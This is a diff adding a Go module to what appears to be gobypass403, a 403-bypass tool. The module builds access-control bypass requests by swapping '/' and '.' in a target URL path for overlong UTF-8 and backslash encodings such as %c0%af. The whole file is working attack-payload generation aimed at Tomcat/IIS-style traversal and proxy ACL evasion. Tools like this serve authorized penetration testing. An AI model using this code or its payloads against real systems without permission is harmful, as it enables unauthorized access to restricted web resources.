@@ -0,0 +1,109 @@
+package payload
+
+import (
+	"strings"
+
+	"github.com/slicingmelon/go-rawurlparser"
+	GB403Logger "github.com/slicingmelon/gobypass403/core/utils/logger"
+)
+
+/*
+GenerateOverlongEncodePayloads generates payloads by replacing the '/' and '.'
+characters of the path with overlong UTF-8 encodings and backslash variants
+read from overlong_encodings.lst (one "<char> <encoding>" pair per line,
+e.g. "/ %c0%af", ". %e0%80%ae", "/ \").
+
+These are the classic Tomcat/IIS traversal encodings, decoded by lenient
+backends while the proxy ACLs only see the raw bytes. They are not covered
+by the normalization form mappings of unicode_path_normalization.
+
+For a URL like /a/b/c.json, it creates these variants (using %c0%af and %c0%ae as example):
+1. One character at a time:
+  - /a%c0%afb/c.json
+  - /a/b%c0%afc.json
+  - /a/b/c%c0%aejson
+
+2. All occurrences of the character at once:
+  - /a%c0%afb%c0%afc.json
+
+3. Encoded '/' right after the leading one (// once decoded):
+  - /%c0%afa/b/c.json
+
+The leading slash is always kept so the request line stays valid.
+The original query string is preserved.
+*/
+func (pg *PayloadGenerator) GenerateOverlongEncodePayloads(targetURL string, bypassModule string) []BypassPayload {
+	var jobs []BypassPayload
+
+	parsedURL, err := rawurlparser.RawURLParse(targetURL)
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to parse URL: %s", targetURL)
+		return jobs
+	}
+
+	entries, err := pg.readModulePayloads("overlong_encodings.lst")
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to read overlong encodings payloads: %v", err)
+		return jobs
+	}
+
+	path := parsedURL.Path
+	if path == "" {
+		path = "/"
+	}
+
+	query := ""
+	if parsedURL.Query != "" {
+		query = "?" + parsedURL.Query
+	}
+
+	// Map to store unique paths (for deduplication)
+	uniquePaths := make(map[string]struct{})
+
+	for _, entry := range entries {
+		char, encoding, ok := strings.Cut(entry, " ")
+		encoding = strings.TrimSpace(encoding)
+		if !ok || len(char) != 1 || encoding == "" {
+			GB403Logger.Debug().BypassModule(bypassModule).Msgf("Skipping invalid overlong encoding entry: %q", entry)
+			continue
+		}
+		c := char[0]
+
+		// 1. Replace one occurrence at a time, the leading slash excluded
+		positions := 0
+		for i := 1; i < len(path); i++ {
+			if path[i] == c {
+				uniquePaths[path[:i]+encoding+path[i+1:]+query] = struct{}{}
+				positions++
+			}
+		}
+
+		// 2. Replace all occurrences at once (leading slash preserved)
+		if positions > 1 {
+			uniquePaths["/"+strings.ReplaceAll(path[1:], char, encoding)+query] = struct{}{}
+		}
+
+		// 3. Encoded separator after the leading slash
+		if c == '/' {
+			uniquePaths["/"+encoding+path[1:]+query] = struct{}{}
+		}
+	}
+
+	baseJob := BypassPayload{
+		OriginalURL:  targetURL,
+		Method:       "GET",
+		Scheme:       parsedURL.Scheme,
+		Host:         parsedURL.Host,
+		BypassModule: bypassModule,
+	}
+
+	for rawURI := range uniquePaths {
+		job := baseJob
+		job.RawURI = rawURI
+		job.PayloadToken = GeneratePayloadToken(job)
+		jobs = append(jobs, job)
+	}
+
+	GB403Logger.Debug().BypassModule(bypassModule).Msgf("Generated %d payloads for %s", len(jobs), targetURL)
+	return jobs
+}